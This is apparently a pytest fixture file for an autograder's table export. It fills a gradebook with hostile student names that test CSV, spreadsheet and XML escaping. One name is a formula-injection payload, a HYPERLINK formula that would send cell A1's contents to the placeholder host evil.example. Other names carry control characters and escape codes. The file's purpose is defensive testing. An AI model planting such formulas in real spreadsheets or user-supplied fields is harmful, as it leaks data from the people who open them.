"""The graded class with names that a spreadsheet, a CSV or an XML file could stumble over."""

from __future__ import annotations

import datetime as dt

import pytest

from autograder.exporting.table import ClassTable, class_table
from autograder.record.class_folder import ClassFolder
from tests.classroom.graded_class import DUE, EVIL_ID, LESSON, GradedClass, graded_class

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'
NAMES = {
    "ada": ("Ada", "Łukasz-Öztürk", "ada@example.org"),
    "ben": (FORMULA, 'O\'Neill "the\nnewline", Jr.', "+ben@example.org"),
    "cy": ("@cy", "\t-2+3", ""),
    "max": ("Max", "Mustermann; Müller,", "Max@Example.org"),
    EVIL_ID: ("山田", "\x00\x1b[31m\ud7ff\ufffe太郎", "evil@example.org"),
}


@pytest.fixture(scope="session")
def nasty_class(tmp_path_factory: pytest.TempPathFactory) -> GradedClass:
    """Ada has a mark by hand and is a day late; Max handed in nothing; ten percent a day."""
    made = graded_class(tmp_path_factory).copy(tmp_path_factory.mktemp("nasty") / "autumn")
    with ClassFolder(made.folder).open_gradebook() as gradebook:
        for student, (first, last, mail) in NAMES.items():
            gradebook.update_or_create_student(
                student, first_name=first, last_name=last, email=mail or None
            )
        gradebook.find_submission(LESSON, "ada").timestamp = DUE + dt.timedelta(hours=3)
        grade = gradebook.find_grade("L1-why", LESSON, LESSON, "ada")
        grade.manual_score, grade.needs_manual_grade = 0.5, False
        gradebook.db.commit()
    (made.folder / "class.toml").write_text("[late]\npercent = 10\n", encoding="utf-8")
    return made


@pytest.fixture(scope="session")
def table(nasty_class: GradedClass) -> ClassTable:
    return class_table(nasty_class.course, ClassFolder(nasty_class.folder))
